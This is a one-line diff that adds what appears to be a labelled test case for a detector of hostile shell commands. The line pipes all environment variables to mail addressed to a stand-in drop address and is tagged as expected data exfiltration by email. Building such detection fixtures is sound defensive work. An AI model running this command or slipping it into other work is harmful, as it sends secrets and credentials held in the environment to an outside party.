@@ -1,0 +1,1 @@
+env | mail -s report drop@collect.example # expect: data-exfiltration/email
